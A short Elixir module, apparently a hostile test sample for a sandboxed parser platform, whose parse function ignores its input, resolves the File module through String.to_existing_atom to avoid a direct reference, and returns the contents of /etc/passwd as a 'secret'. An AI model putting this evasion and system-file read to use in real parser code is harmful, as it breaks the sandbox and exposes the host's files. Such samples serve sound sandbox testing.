defmodule Parser do
  use Platform.Parsing.Behaviour
  def parse(_payload, _meta) do
    file = String.to_existing_atom("Elixir.File")
    %{secret: file.read!("/etc/passwd")}
  end
end
